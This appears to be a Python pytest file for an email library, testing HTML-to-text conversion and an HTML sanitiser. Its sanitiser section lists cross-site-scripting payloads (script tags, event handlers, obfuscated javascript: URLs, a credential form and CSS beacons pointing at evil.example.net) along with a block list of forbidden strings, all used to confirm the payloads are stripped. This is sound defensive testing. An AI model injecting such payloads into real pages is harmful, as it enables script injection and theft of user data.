"""mail.html: HTML mail to readable text, and HTML made safe to embed."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mail.html import html_to_text, sanitize_html
from mail.parse import parse_message
from tests.support.paths import MAIL_SAMPLES

# --- html_to_text -------------------------------------------------------------------


def test_paragraphs_and_breaks() -> None:
    """Paragraphs are separated by a blank line, <br> and <div> end lines."""
    html = "<p>One<br>two</p><p>Three</p><div>Four</div><div><br></div><div>Five</div>"
    assert html_to_text(html) == "One\ntwo\n\nThree\n\nFour\n\nFive"


def test_lists() -> None:
    """Bullets become "- ", numbered lists count from their start, nesting indents."""
    html = (
        "<ul><li>milk</li><li>bread<ol start=3><li>rye</li><li>wheat</li></ol></li>"
        "<li>eggs</li></ul><p>Done</p>"
    )
    assert html_to_text(html) == "- milk\n- bread\n  3. rye\n  4. wheat\n- eggs\n\nDone"


def test_hostile_list_start_is_ignored() -> None:
    """A huge or junk <ol start> numbers from 1 instead of failing."""
    assert html_to_text(f'<ol start="{"9" * 5000}"><li>x</li></ol>') == "1. x"
    assert html_to_text('<ol start="-3"><li>x</li></ol>') == "1. x"


def test_links_show_their_target_only_when_it_differs() -> None:
    """A link reads "text (url)"; a link whose text is its url, or a mailto, reads once."""
    html = (
        '<p><a href="https://example.com/doc">the doc</a> '
        '<a href="https://example.com/">https://example.com</a> '
        '<a href="mailto:ana@example.com">ana@example.com</a> '
        '<a href="javascript:void(0)">nothing</a></p>'
    )
    assert html_to_text(html) == (
        "the doc (https://example.com/doc) https://example.com ana@example.com nothing"
    )


def test_simple_table_rows() -> None:
    """A data table prints one row per line, cells separated by " | "."""
    html = "<table><tr><th>Name</th><th>Qty</th></tr><tr><td>apples</td><td>3</td></tr></table>"
    assert html_to_text(html) == "Name | Qty\napples | 3"


def test_layout_table_is_not_flattened_into_one_row() -> None:
    """A table holding paragraphs (newsletter layout) keeps its blocks on their own lines."""
    html = "<table><tr><td><p>Intro</p><p>Body</p></td><td><p>Side</p></td></tr></table>"
    assert html_to_text(html) == "Intro\n\nBody\n\nSide"


def test_invisible_content_is_dropped() -> None:
    """Head, title, style, script, comments and display:none text never reach the text."""
    html = (
        "<html><head><title>T</title><style>p {color: red}</style></head><body>"
        "<script>alert(1)</script><!-- note --><span style='display: none'>preheader</span>"
        "<p>Visible</p></body></html>"
    )
    assert html_to_text(html) == "Visible"


def test_entities_and_whitespace() -> None:
    """Entities are decoded and HTML white space collapses."""
    assert (
        html_to_text("<p>Fish &amp;  chips&nbsp;&#8211;\n  caf&eacute;</p>")
        == "Fish & chips – café"
    )


def test_no_runs_of_blank_lines() -> None:
    """Empty paragraphs and breaks never make more than one blank line."""
    html = "<p>a</p><p></p><p>&nbsp;</p><br><br><br><p>b</p>"
    assert html_to_text(html) == "a\n\nb"


def test_blockquote_lines_are_quoted() -> None:
    """Blockquote lines get "> " (nested: "> > ") so the trimmer sees quoted history."""
    html = "<p>Reply</p><blockquote>Earlier<br>text<blockquote>older</blockquote></blockquote>"
    assert html_to_text(html) == "Reply\n\n> Earlier\n> text\n>\n> > older"


def test_preformatted_text_keeps_its_layout() -> None:
    """<pre> keeps spaces and line breaks."""
    assert html_to_text("<pre>a  b\n  c</pre>") == "a  b\n  c"


def test_outlook_paragraphs_are_lines() -> None:
    """Word's MsoNormal paragraphs are lines; its &nbsp; paragraphs are the blank lines."""
    html = (
        "<p class=MsoNormal>Hi Ben,<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>"
        "<p class=MsoNormal>Line one<o:p></o:p></p><p class=MsoNormal>Line two<o:p></o:p></p>"
    )
    assert html_to_text(html) == "Hi Ben,\n\nLine one\nLine two"


def test_deep_nesting_does_not_recurse() -> None:
    """Thousands of nested elements render without hitting the recursion limit."""
    html = "<div>" * 5000 + "deep" + "</div>" * 5000
    assert html_to_text(html) == "deep"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/=\"' abpdivlutrgqkse&;#x\n")), max_size=300))
def test_html_to_text_never_raises(html: str) -> None:
    """Any tag soup gives a string."""
    assert isinstance(html_to_text(html), str)


# --- sanitize_html ------------------------------------------------------------------

DANGEROUS = {
    "script": "<script>alert(1)</script>",
    "event handler": '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
    "javascript url": '<a href="javascript:alert(1)">x</a>',
    "javascript url, obfuscated": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "data url": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "data url link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "form": '<form action="https://evil.example.net"><input name="pw"><button>Go</button></form>',
    "iframe": '<iframe src="https://evil.example.net"></iframe>',
    "base": '<base href="https://evil.example.net/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example.net">',
    "style tag": "<style>body { background: url(https://evil.example.net/t) }</style>",
    "style attribute": '<p style="background:url(https://evil.example.net/t)">x</p>',
    "object": '<object data="https://evil.example.net/x.swf"></object>',
    "svg": "<svg><script>alert(1)</script></svg>",
}
FORBIDDEN = (
    "<script",
    "onclick",
    "onmouseover",
    "javascript:",
    "data:",
    "<form",
    "<input",
    "<button",
    "<iframe",
    "<base",
    "<meta",
    "<style",
    "style=",
    "<object",
    "<svg",
    "evil.example.net",
)


@pytest.mark.parametrize("construct", sorted(DANGEROUS))
def test_dangerous_constructs_are_removed(construct: str) -> None:
    """Each dangerous construct is gone from the sanitised HTML."""
    cleaned = sanitize_html(f"<div>safe {DANGEROUS[construct]} text</div>").lower()
    for needle in FORBIDDEN:
        assert needle not in cleaned, (construct, cleaned)
    assert "safe" in cleaned


def test_remote_images_are_dropped_by_default() -> None:
    """An http(s) image source (a tracking pixel, often) is removed unless allowed."""
    html = '<img src="https://tracker.example.net/p.gif" alt="pixel">'
    assert "tracker" not in sanitize_html(html)
    assert 'src="https://tracker.example.net/p.gif"' in sanitize_html(html, remote_images=True)


def test_cid_images_are_rewritten_or_dropped() -> None:
    """cid: sources (RFC 2392, URL-encoded) map through cid_urls; unknown ones are dropped."""
    html = '<img src="cid:logo%40example.com"><img src="cid:unknown@example.com">'
    cleaned = sanitize_html(html, {"logo@example.com": "/attachments/42"})
    assert '<img src="/attachments/42">' in cleaned
    assert "unknown" not in cleaned
    assert "cid:" not in sanitize_html(html)


def test_formatting_and_links_survive() -> None:
    """Ordinary formatting, tables and https links are kept, links made safe to follow."""
    html = '<p><b>Bold</b> <a href="https://example.com/a">link</a></p><table><tr><td>1</td></tr></table>'
    cleaned = sanitize_html(html)
    assert "<b>Bold</b>" in cleaned
    assert 'href="https://example.com/a"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert "<td>1</td>" in cleaned


def test_stored_cid_images_map_to_our_urls_only() -> None:
    """Parsed HTML keeps cid: sources; a mapping turns them into our own URLs, nothing else."""
    raw = (MAIL_SAMPLES / "0013-related-cid-image.eml").read_bytes()
    stored = parse_message(raw).html or ""
    assert 'src="cid:logo.123@example.com"' in stored
    shown = sanitize_html(stored, {"logo.123@example.com": "/attachments/9"})
    assert '<img src="/attachments/9" alt="logo">' in shown
    assert "tracker" not in shown
    assert "cid:" not in shown
    assert "cid:" not in sanitize_html(stored, {})
    for hostile in ("javascript:alert(1)", "data:image/png;base64,AA", "//evil.example/x"):
        assert hostile not in sanitize_html(stored, {"logo.123@example.com": hostile})
